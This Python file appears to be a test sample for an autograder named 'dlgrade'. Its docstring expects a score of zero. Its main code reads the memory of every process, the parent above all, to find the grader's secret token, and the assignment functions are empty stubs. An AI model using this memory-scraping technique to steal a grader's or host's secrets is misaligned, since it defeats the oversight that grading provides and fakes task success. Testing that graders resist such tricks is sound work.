"""Reads the memory of every process there is, the parent's above all.

Deserves: 0
Prints: processes: ['1'] parent: 0
"""

import numpy as np
import os
import re

SECRET = re.compile(b"dlgrade-" + b"secret-[0-9a-f]{16,}")
processes = [name for name in os.listdir("/proc") if name.isdigit()]
print("processes:", processes, "parent:", os.getppid())
for process in {*processes, str(os.getppid())}:
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
            for line in maps:
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                if "rw-p" not in line:
                    continue
                memory.seek(start)
                found = SECRET.findall(memory.read(end - start))
                if found:
                    print("found:", found)
    except OSError:
        pass


def churn_rule(days_since_last_transaction):
    return 0


def one_hot(labels, num_classes):
    return 0


def standardize(x):
    return 0


def accuracy(y_true, y_pred):
    return 0
